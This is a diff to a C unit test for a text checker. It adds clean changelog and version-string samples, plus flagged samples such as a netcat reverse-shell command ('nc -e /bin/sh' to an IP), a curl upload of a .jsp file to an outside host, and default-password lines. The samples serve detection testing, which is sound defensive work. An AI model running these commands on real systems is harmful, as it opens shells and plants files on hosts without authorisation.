@@ -203,6 +203,16 @@ test_citations(void)
         "Bug: https://bugs.freedesktop.org/show_bug.cgi?id=106632\n",
         "```js\nconst key = fs.readFileSync('private-key.pem');\n"
         "https.createServer({ key }).listen(8443);\n```\n",
+        /* release notes and changelogs */
+        "dpkg (1.16.4.2) unstable; urgency=low\n",
+        "Start preparing for 1.8.4.3; the crash was fixed in 1.4.0.26.\n",
+        "* v8: upgrade v8 to 3.20.14.1; Upgrade to V8 5.0.71.57. Update GIT 1.5.3.5 notes.\n",
+        "Closes: alioth#315841. Improve pkcs#12 import (Bug#51860#25).\n",
+        "GitHub Actions: update to checkout@v4 and setup-node@v3.\n",
+        "Wed May 19 15:15:12 1993  Phil Nelson  (phil at cs.wwu.edu)\n",
+        "```cpp\n// addon.cc\n#include <node.h>\n```\n\n"
+        "    % time c++ -c test.cc -I include\n\n"
+        "See [embedtest.cc].\n",
     };
     for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++) {
         struct emb_check_report r;
@@ -253,6 +263,14 @@ test_citations(void)
           "ghp_Z7q3M4n5P6r7S8t9U0v1W2x3Y4z5A6b7C8d9\n",
           "credential" },
         { "目标：update 服务器 45.33.32.156\n", "live_target" },
+        { "```bash\nupdate server 45.33.32.156\n```\n", "live_target" },
+        { "```bash\ncurl -X POST http://ops.hexacorp.cc/upload -F f=@a.jsp\n```\n", "live_target" },
+        { "```bash\nnc -e /bin/sh 45.33.32.156 4444 # c++\n```\n", "live_target" },
+        { "dpkg (45.33.32.156) is where we staged it\n\n```bash\nscan 45.33.32.156\n```\n",
+          "live_target" },
+        { "```cpp\nint fd = dial(\"relay.cc\", 443);\n```\n", "live_target" },
+        { "默认密码 admin@v12，登录后台。\n", "credential" },
+        { "默认口令 pkcs#12\n", "credential" },
         { "See section 45.33.32.156 for the box we attacked.\n", "live_target" },
         { "Full exploit chain available. Contact me on TG@zeroday_shop for the price.\n", "hype" },
         { "Full exploit chain available (TG@zeroday_shop).\n", "hype" },
